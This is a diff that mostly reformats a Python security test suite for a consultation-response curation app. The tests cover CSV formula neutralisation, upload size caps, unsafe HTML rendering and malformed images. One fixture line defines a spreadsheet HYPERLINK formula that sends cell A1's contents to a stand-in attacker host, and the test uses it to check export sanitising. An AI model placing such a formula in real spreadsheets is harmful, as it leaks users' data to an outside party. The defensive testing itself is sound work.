@@ -29,18 +29,30 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 def _person(db, consultation, key: str, name: str, text: str) -> int:
     with db.session() as s:
-        r = Respondent(consultation_id=consultation.id, source_key=key, name=name,
-                       organisation=f"{IMG} Ltd", region="Wales", consent_to_quote=True,
-                       consent_raw="Yes")
-        r.responses = [Response(question_id=consultation.questions[0].id, text=text,
-                                content_hash=hashlib.sha256(text.encode()).hexdigest())]
+        r = Respondent(
+            consultation_id=consultation.id,
+            source_key=key,
+            name=name,
+            organisation=f"{IMG} Ltd",
+            region="Wales",
+            consent_to_quote=True,
+            consent_raw="Yes",
+        )
+        r.responses = [
+            Response(
+                question_id=consultation.questions[0].id,
+                text=text,
+                content_hash=hashlib.sha256(text.encode()).hexdigest(),
+            )
+        ]
         s.add(r)
         s.flush()
         return r.id
 
 
-def test_formula_cells_are_imported_verbatim_and_exported_neutralised(db, consultation, admin,
-                                                                    tmp_path):
+def test_formula_cells_are_imported_verbatim_and_exported_neutralised(
+    db, consultation, admin, tmp_path
+):
     """A formula in an answer is kept as the respondent's words; any CSV of it is inert."""
     from curation.ingest import import_file
 
@@ -53,8 +65,10 @@ def test_formula_cells_are_imported_verbatim_and_exported_neutralised(db, consul
     with db.session() as s:
         import_file(s, admin, consultation.id, path)
     with db.session() as s:
-        rows = [{"name": r.name, "text": r.responses[0].text}
-                for r in s.scalars(select(Respondent).order_by(Respondent.id))]
+        rows = [
+            {"name": r.name, "text": r.responses[0].text}
+            for r in s.scalars(select(Respondent).order_by(Respondent.id))
+        ]
     assert rows[0] == {"name": "@Ann", "text": FORMULA}
     parsed = list(csv.reader(io.StringIO(csv_text(rows, ["name", "text"]))))
     assert parsed[1] == ["'@Ann", "'" + FORMULA]
@@ -116,8 +130,7 @@ def test_bidi_override_in_an_answer_is_shown_as_characters(db, consultation):
     assert any(text in t.value for t in at.text)
 
 
-def test_oversized_export_is_refused_before_reading(db, consultation, admin, tmp_path,
-                                                    monkeypatch):
+def test_oversized_export_is_refused_before_reading(db, consultation, admin, tmp_path, monkeypatch):
     """An export over the importer's size cap is refused with a clear message, nothing written."""
     from curation.ingest import import_file, readers
 
@@ -157,9 +170,12 @@ def test_every_upload_widget_has_its_own_cap():
     offenders = []
     for page in sorted((ROOT / "app_pages").glob("*.py")):
         for node in ast.walk(ast.parse(page.read_text(encoding="utf-8"))):
-            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
-                    and node.func.attr == "file_uploader"
-                    and not any(k.arg == "max_upload_size" for k in node.keywords)):
+            if (
+                isinstance(node, ast.Call)
+                and isinstance(node.func, ast.Attribute)
+                and node.func.attr == "file_uploader"
+                and not any(k.arg == "max_upload_size" for k in node.keywords)
+            ):
                 offenders.append(f"{page.name}:{node.lineno}")
     assert offenders == []
 
@@ -167,8 +183,9 @@ def test_every_upload_widget_has_its_own_cap():
 def test_no_page_renders_html_unsafely():
     """No page or UI module passes unsafe_allow_html=True or uses st.html with data."""
     offenders = []
-    for path in sorted([*(ROOT / "app_pages").glob("*.py"), *(ROOT / "ui").glob("*.py"),
-                        ROOT / "dashboard.py"]):
+    for path in sorted(
+        [*(ROOT / "app_pages").glob("*.py"), *(ROOT / "ui").glob("*.py"), ROOT / "dashboard.py"]
+    ):
         source = path.read_text(encoding="utf-8")
         if "unsafe_allow_html=True" in source or "st.html(" in source:
             offenders.append(path.name)
@@ -200,8 +217,12 @@ def test_decompression_bomb_image_is_refused_before_decoding():
 
 @pytest.mark.parametrize(
     "data",
-    [b"GIF89a" + b"\0" * 100, b"<svg xmlns='http://www.w3.org/2000/svg'/>",
-     b"\x89PNG\r\n\x1a\n" + b"\0" * 50, b""],
+    [
+        b"GIF89a" + b"\0" * 100,
+        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
+        b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
+        b"",
+    ],
     ids=["gif", "svg", "truncated-png", "empty"],
 )
 def test_images_outside_the_allow_list_or_broken_are_refused(data):
